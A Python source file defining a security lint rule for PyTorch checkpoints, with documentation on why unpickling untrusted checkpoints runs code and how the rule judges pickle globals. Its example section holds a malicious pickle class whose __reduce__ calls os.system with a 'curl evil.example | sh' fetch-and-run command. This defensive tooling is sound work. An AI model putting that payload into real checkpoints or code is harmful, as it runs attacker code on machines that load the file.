"""CKPT101 unsafe-pickle: runtime rule metadata (reported by `ckptlint verify`, not by a source pass)."""

from __future__ import annotations

from ckptlint.rules._base import Rule


class UnsafePickle(Rule):
    code = "CKPT101"
    name = "unsafe-pickle"
    summary = "Checkpoint needs globals outside torch's weights-only allowlist"
    phase = "runtime"
    fix_safety = "none"
    security_severity = "9.8"
    levels = ("error", "warning")  # warning: only reviewed data types need allowing
    docs = """
    ## What it does
    Reads every pickle in the checkpoint that a loader could unpickle (never unpickling it)
    and judges every global it names. Anything outside torch's weights-only allowlist, a short
    reviewed list of data types and the project's `safe-globals` makes it an error that says
    what the file calls, constructs or imports on load: loading it with `weights_only=False`
    runs code. Reviewed data types alone (numpy arrays and dtypes, `argparse.Namespace`,
    `datetime`, `pathlib` paths, ...) are a warning with the exact
    `torch.serialization.safe_globals([...])` that lets `weights_only=True` read the file.
    A pickle it cannot read to the end is an error too (it cannot be proven safe), and so are
    TorchScript archives, the torch<0.4 tar format and pickles whose frames end inside an
    instruction (readers disagree on what those run). The file is read as each loader reads
    it, by content: compressed pickles as joblib or `gzip.open` undo them, and bytes a pickle
    loads nested (`torch.storage._load_from_bytes`, `pickle.loads`) are judged by what they
    hold; content it cannot check (a codec module missing, past its reading budget) is an
    error. Nested archives of plain data, and opcodes torch's weights-only unpickler does not
    read (`pickle_protocol=3` to `5`), are a warning saying `weights_only=True` refuses the file.

    ## Why is this bad?
    `torch.load(..., weights_only=False)` (the default before torch 2.6, and still the default
    of `torch.hub.load_state_dict_from_url`) calls whatever the pickle names. A checkpoint that
    names `posix.system` runs a shell command on the machine that loads it, and so does one
    that names any of the many library functions that run a command or evaluate a string:
    a list of dangerous names would always lag behind, so only names known to be data pass.
    Even harmless custom classes make `weights_only=True` loading fail, which pushes users to
    turn it off.

    ## Example
    ```python
    import torch

    class RunPayload:
        def __reduce__(self):
            import os
            return (os.system, ("curl evil.example | sh",))

    torch.save({"weights": torch.zeros(3), "x": RunPayload()}, "model.pt")
    ```

    ## Use instead
    ```python
    import torch

    torch.save({"weights": torch.zeros(3)}, "model.pt")  # tensors and plain containers only
    # custom classes you trust: torch.serialization.add_safe_globals([...]) and
    # [tool.ckptlint] safe-globals = ["mypkg.MyConfig"]
    ```

    ## Fix safety
    There is no automatic fix: the checkpoint has to be re-saved from trusted code.
    """
